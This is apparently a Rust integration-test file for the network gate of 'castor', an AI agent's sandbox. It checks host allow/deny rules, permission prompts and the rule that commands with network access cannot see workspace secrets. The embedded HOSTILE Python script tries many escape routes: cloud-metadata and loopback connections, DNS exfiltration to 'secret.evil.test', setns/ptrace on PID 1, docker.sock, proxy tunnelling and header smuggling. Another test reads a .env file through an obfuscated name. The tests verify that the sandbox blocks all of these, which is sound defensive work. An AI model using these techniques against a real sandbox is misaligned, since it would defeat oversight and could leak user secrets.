//! The door: what commands in the sandbox reach of the network by the names of hosts, and how a user is asked.
#![cfg(target_os = "linux")]

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener},
    os::{
        linux::net::SocketAddrExt,
        unix::net::{self, UnixListener},
    },
    process::{Command, Stdio},
    sync::{Arc, Mutex},
    thread,
};

use serde_json::{Value, json};

use crate::{
    client::{Namespaces, Sandbox},
    confined::{Bed, work_in_auto},
};

/// A web server of this machine, under whatever names a test gives it.
struct WebServer {
    at: SocketAddr,
    heads: Arc<Mutex<Vec<String>>>,
}

impl WebServer {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let (at, heads) = (listener.local_addr().unwrap(), Arc::<Mutex<Vec<String>>>::default());
        let known = heads.clone();
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut head = vec![0; 4096];
                let n = stream.read(&mut head).unwrap_or(0);
                known.lock().unwrap().push(String::from_utf8_lossy(&head[..n]).into_owned());
                let answer = "HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nREACHED";
                _ = stream.write_all(answer.as_bytes());
            }
        });
        Self { at, heads }
    }

    fn heads(&self) -> String {
        self.heads.lock().unwrap().join("")
    }

    /// For castor's environment.
    fn known_as(&self, names: &[&str]) -> (String, String) {
        let known: Vec<String> = names.iter().map(|it| format!("{it}={}", self.at)).collect();
        ("CASTOR_TEST_NETWORK".to_owned(), known.join(","))
    }
}

fn has_mounts(sandbox: &Sandbox) -> bool {
    sandbox.namespaces != Namespaces::Nobody
}

/// Runs a line by `castor exec` where these hosts are open.
fn run(server: &WebServer, settings: Value, line: &str) -> (Option<i32>, String, String) {
    let mut sandbox = Sandbox::new();
    sandbox.write("home/.castor/settings.json", &settings.to_string());
    sandbox.write("ws/.env", "API_TOKEN=canary-of-the-workspace");
    sandbox.env.push(server.known_as(&["a.test:80", "a.test:8080", "b.test:80", "closed.test:80", "c.sub.test:80"]));
    sandbox.args = ["exec", "--", "bash", "-c", line].map(Into::into).to_vec();
    let out = sandbox.command().stdin(Stdio::null()).output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
    (out.status.code(), text(out.stdout), text(out.stderr))
}

fn open(allow: &[&str]) -> Value {
    json!({"security": {"network": {"allow": allow, "deny": ["closed.test"]}}})
}

const DIRECT: &str = "env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy";

#[test]
fn a_host_of_the_settings_is_reached_and_others_are_refused_by_name() {
    let server = WebServer::start();
    let (code, out, errors) = run(&server, open(&["a.test:80"]), "curl -sS http://a.test/x; curl -sS http://b.test/y");
    assert_eq!(code, Some(0), "{out} {errors}");
    assert!(out.starts_with("REACHED") && out.contains("b.test:80 was not allowed"), "{out} {errors}");
    assert!(errors.contains("refused b.test:80") && errors.contains("security.network.allow"), "{errors}");
    let heads = server.heads();
    assert!(heads.starts_with("GET /x HTTP/1.1\r\nHost: a.test\r\n") && !heads.contains("/y"), "{heads}");
}

/// By the resolver within, and at a port that is none of the usual ones.
#[test]
fn programs_that_know_no_proxy_reach_it_too() {
    let server = WebServer::start();
    if has_mounts(&Sandbox::new()) && Sandbox::new().namespaces == Namespaces::Castor {
        let line = format!(
            "{DIRECT} curl -sS http://a.test/x && {DIRECT} curl -sS http://a.test:8080/y && {DIRECT} curl -sS http://c.sub.test/z; \
             {DIRECT} curl -sS http://b.test/no; {DIRECT} curl -sS http://sub.test/no"
        );
        let (_, out, errors) = run(&server, open(&["a.test:80", "a.test:8080", "*.sub.test:80"]), &line);
        assert_eq!(out, "REACHEDREACHEDREACHED", "{errors}");
        assert!(errors.contains("refused b.test:80"), "{errors}");
        let heads = server.heads();
        assert!(heads.contains("GET /y") && heads.contains("GET /z") && !heads.contains("/no"), "{heads}");
    }
}

/// A workspace closes hosts, and opens none.
#[test]
fn a_workspace_only_tightens() {
    let server = WebServer::start();
    let mut sandbox = Sandbox::new();
    sandbox.write("home/.castor/settings.json", &open(&["a.test:80"]).to_string());
    let own = json!({"security": {"network": {"allow": ["b.test:80"], "deny": ["a.test"]}}});
    sandbox.write("ws/.castor/settings.json", &own.to_string());
    sandbox.env.push(server.known_as(&["a.test:80", "b.test:80"]));
    let line = "curl -s http://a.test/x; curl -s http://b.test/y";
    sandbox.args = ["exec", "--", "bash", "-c", line].map(Into::into).to_vec();
    let out = sandbox.command().stdin(Stdio::null()).output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stdout).contains("REACHED"), "{out:?}");
    assert_eq!(server.heads(), "");
}

/// A command to which a host is open sees no secrets of the workspace; one without sees them.
#[test]
fn hosts_and_secrets_do_not_come_together() {
    let server = WebServer::start();
    let (_, out, _) = run(&server, open(&["a.test:80"]), "cat .env; echo end");
    assert_eq!(out, "end\n");
    let (_, out, _) = run(&server, open(&[]), "cat .env");
    assert!(out.contains("canary"), "{out}");
}

/// Each way that leads round the door prints its name if it leads anywhere.
const HOSTILE: &str = r#"
import ctypes, os, socket, struct, subprocess, sys
port, outside = int(sys.argv[1]), sys.argv[2]
def way(name, go):
    try:
        got = go()
    except Exception:
        return
    if got:
        print("ESCAPED", name, got)
def tcp(family, address):
    it = socket.socket(family, socket.SOCK_STREAM); it.settimeout(3); it.connect(address)
    it.sendall(b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"); return b"REACHED" in it.recv(999)
def udp(family, address, data=b"x"):
    it = socket.socket(family, socket.SOCK_DGRAM); it.settimeout(1); it.sendto(data, address); return it.recv(99)
def door(*said):
    it = socket.create_connection(("127.0.0.1", 10053), 3); got = b""
    for one in said:
        it.sendall(one); got += it.recv(999)
    return b"REACHED" in got
def connect(host, then=b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"):
    return door(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), then)
for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", outside, "198.18.1.200", "169.254.169.254", "10.0.0.1"):
    way("connect " + address, lambda: tcp(socket.AF_INET, (address, port)))
for address in ("::1", "::ffff:127.0.0.1", "::"):
    way("connect " + address, lambda: tcp(socket.AF_INET6, (address, port)))
for address in ("8.8.8.8", "1.1.1.1", outside):
    way("dns " + address, lambda: udp(socket.AF_INET, (address, 53), b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1"))
way("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
way("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
way("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
way("bluetooth", lambda: socket.socket(31, socket.SOCK_STREAM, 3))
way("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0castor-door-test") is None)
def pair():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); one.connect("/run/docker.sock"); return True
way("pair", pair)
libc = ctypes.CDLL(None, use_errno=True)
def namespace(path):
    return libc.setns(os.open(path, os.O_RDONLY), 0x40000000) == 0
for it in ("/proc/1/ns/net", f"/proc/{os.getppid()}/ns/net"):
    way("setns " + it, lambda: namespace(it) and tcp(socket.AF_INET, ("127.0.0.1", port)))
way("unshare", lambda: libc.unshare(0x40000000) == 0)
way("ptrace", lambda: libc.ptrace(16, 1, 0, 0) == 0)
way("fds of number 1", lambda: [os.readlink("/proc/1/fd/" + it) for it in os.listdir("/proc/1/fd")])
way("memory of number 1", lambda: open("/proc/1/mem", "rb").read(1))
way("root of number 1", lambda: os.listdir("/proc/1/root"))
def stolen(address):
    it = socket.socket(); it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); it.bind(address); it.listen(); return True
for address in (("127.0.0.1", 10053), ("0.0.0.0", 10053), ("0.0.0.0", 443), ("198.18.1.0", 80)):
    way(f"bind {address}", lambda: stolen(address))
def resolver():
    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    it.bind(("127.0.0.1", 53)); return True
way("bind the resolver", resolver)
for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"2130706433:{port}", f"0x7f.1:{port}", f"[::1]:{port}",
             f"[::ffff:127.0.0.1]:{port}", f"0:{port}", f"{outside}:{port}", "b.test:80", "closed.test:80",
             "a.test.b.test:80", "a.test@b.test:80", "b.test:80#a.test:80", "a.test%00b.test:80", "169.254.169.254:80"):
    way("tunnel " + host, lambda: connect(host))
for host in ("b.test", "a.test, b.test", "a.test\r\nHost: b.test"):
    way("fronted " + host, lambda: connect("a.test:80", f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()))
    way("front " + host, lambda: door(f"GET http://a.test/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()))
way("two lengths", lambda: door(b"POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
way("version 2", lambda: door(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
def socks(kind, host):
    return door(b"\5\1\0", b"\5\1\0" + bytes([kind]) + host + struct.pack(">H", port), b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
way("socks v4", lambda: socks(1, socket.inet_aton("127.0.0.1")))
way("socks v6", lambda: socks(4, socket.inet_pton(socket.AF_INET6, "::1")))
way("socks name", lambda: socks(3, bytes([10]) + b"2130706433"))
print("over", door(b"GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n"))
"#;

#[test]
fn no_way_leads_round_the_door() {
    let server = WebServer::start();
    let mut sandbox = Sandbox::new();
    let outside = Command::new("hostname").arg("-I").output().ok();
    let outside = outside.and_then(|it| Some(String::from_utf8(it.stdout).ok()?.split_whitespace().next()?.to_owned()));
    let outside = outside.unwrap_or_else(|| "127.0.0.3".to_owned());
    sandbox.write("ws/hostile.py", HOSTILE);
    sandbox.write("home/.castor/settings.json", &open(&["a.test:80", "closed.test:80", "127.0.0.1:*"]).to_string());
    sandbox.env.push(server.known_as(&["a.test:80", "b.test:80", "closed.test:80"]));
    let name = net::SocketAddr::from_abstract_name("castor-door-test").unwrap();
    let _listens = UnixListener::bind_addr(&name).unwrap();
    let port = server.at.port().to_string();
    sandbox.args = ["exec", "--", "python3", "hostile.py", &port, &outside].map(Into::into).to_vec();
    let out = sandbox.command().stdin(Stdio::null()).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "over True\n", "{}", String::from_utf8_lossy(&out.stderr));
    let heads = server.heads();
    assert!(heads.matches("GET").count() == 1 && heads.matches("Host: a.test").count() == 1, "{heads}");
}

/// Sends a prompt, and answers its questions. What was asked, and all that was told.
fn prompt(bed: &mut Bed, option: &str) -> (Vec<Value>, String) {
    let id = json!(format!("p{}", bed.client.transcript().len()));
    let params = json!({"sessionId": bed.session, "prompt": [{"type": "text", "text": "go"}]});
    bed.client.request_as(id.clone(), "session/prompt", params);
    let (mut asked, mut told) = (Vec::new(), String::new());
    loop {
        let message = bed.client.next().unwrap().expect("the end of castor");
        told += &message.to_string();
        if message["method"] == "session/request_permission" {
            let result = json!({"outcome": {"outcome": "selected", "optionId": option}});
            bed.client.send(&json!({"jsonrpc": "2.0", "id": message["id"], "result": result}));
            asked.push(message["params"].clone());
        } else if message["id"] == id {
            return (asked, told);
        }
    }
}

fn session(server: &WebServer, commands: &[&str]) -> Option<Bed> {
    let bed = Bed::prepared(commands, |it| {
        work_in_auto(it);
        it.write("home/.castor/settings.json", r#"{"security":{"enablePermanentToolApproval":true}}"#);
        it.env.push(server.known_as(&["a.test:80", "b.test:80", "registry.npmjs.org:443", "pypi.org:443"]));
    });
    has_mounts(&bed.sandbox).then_some(bed)
}

fn question(asked: &Value) -> (String, Vec<String>) {
    let text = asked["toolCall"]["content"][0]["content"]["text"].as_str().unwrap_or_default().to_owned();
    let options = asked["options"].as_array().unwrap().iter().map(|it| it["name"].as_str().unwrap().to_owned());
    (text, options.collect())
}

#[test]
fn a_refused_host_is_asked_about_by_name_for_once_or_for_the_session() {
    let server = WebServer::start();
    let lines = [
        "curl -sS http://a.test/one",
        "curl -sS http://a.test/two | tail -1",
        "curl -sS http://a.test/three; curl -sS http://b.test/no",
        "python3 -c 'print(open(\".e\" + \"nv\").read())'",
    ];
    let Some(mut bed) = session(&server, &lines) else { return };
    bed.sandbox.write("ws/.env", "API_TOKEN=canary-of-the-workspace");
    let (asked, told) = prompt(&mut bed, "allow_once");
    assert_eq!(asked.len(), 1, "{told}");
    let (text, options) = question(&asked[0]);
    assert!(text.contains("did not let this command reach a.test:80. Run the whole command again"), "{text}");
    assert!(
        options.iter().any(|it| it == "Allow commands network access to a.test:80 for this session"),
        "{options:?}"
    );
    assert!(told.contains("REACHED"), "{told}");
    // Once is once; a pipe hides nothing.
    let (asked, told) = prompt(&mut bed, "allow_session");
    assert!(asked.len() == 1 && told.contains("REACHED"), "{told}");
    let (asked, told) = prompt(&mut bed, "reject_once");
    assert!(question(&asked[0]).0.contains("reach b.test:80.") && told.contains("REACHED"), "{told}");
    let (_, told) = prompt(&mut bed, "reject_once");
    assert!(!told.contains("canary"), "{told}");
    let params = json!({"sessionId": bed.session, "prompt": [{"type": "text", "text": "/network"}]});
    let (_, told) = bed.client.call("session/prompt", params).unwrap();
    let told: String = told.iter().map(ToString::to_string).collect();
    assert!(
        told.contains("Reached:\\n- a.test:80, by 3 commands") && told.contains("Refused:\\n- b.test:80"),
        "{told}"
    );
}

/// One choice opens all that package managers read from, and nothing else.
#[test]
fn a_registry_is_asked_about_with_its_group() {
    let server = WebServer::start();
    let line = "curl -sS https://registry.npmjs.org/left-pad";
    let Some(mut bed) = session(&server, &[line, "curl -sS https://pypi.org/simple; curl -sS http://b.test/"]) else {
        return;
    };
    let (asked, told) = prompt(&mut bed, "allow_always_save");
    let (text, options) = question(&asked[0]);
    assert!(text.contains("registry.npmjs.org:443"), "{text}");
    let group = "network access to package registries (npm, PyPI, crates.io, Go, RubyGems, Maven)";
    assert!(options.iter().any(|it| it.contains(group) && it.contains("in this folder")), "{options:?}");
    // It is no server of TLS, and that is all that is wrong with it.
    assert!(told.contains("\"reached\":[\"registry.npmjs.org:443\"]"), "{told}");
    let (asked, told) = prompt(&mut bed, "reject_once");
    assert!(question(&asked[0]).0.contains("reach b.test:80."), "{told}");
    let saved = std::fs::read_to_string(bed.sandbox.home().join(".castor/sandbox-saved.toml")).unwrap();
    assert!(saved.contains("hosts = [\"registries\"]"), "{saved}");
}

/// A server that the user runs is another program's, and its port is asked about.
#[test]
fn a_port_of_this_machine_is_asked_about_with_the_program_that_listens() {
    let server = WebServer::start();
    let line = format!("curl -s http://127.0.0.1:{}/health", server.at.port());
    let Some(mut bed) = session(&server, &[&line, &line]) else { return };
    let (asked, told) = prompt(&mut bed, "allow_session");
    assert_eq!(asked.len(), 1, "{told}");
    let (text, _) = question(&asked[0]);
    assert!(text.contains(&format!("port {} of this machine (", server.at.port())), "{text}");
    assert!(told.contains("REACHED"), "{told}");
    let (asked, told) = prompt(&mut bed, "reject_once");
    assert!(asked.is_empty() && told.contains("REACHED"), "{told}");
}
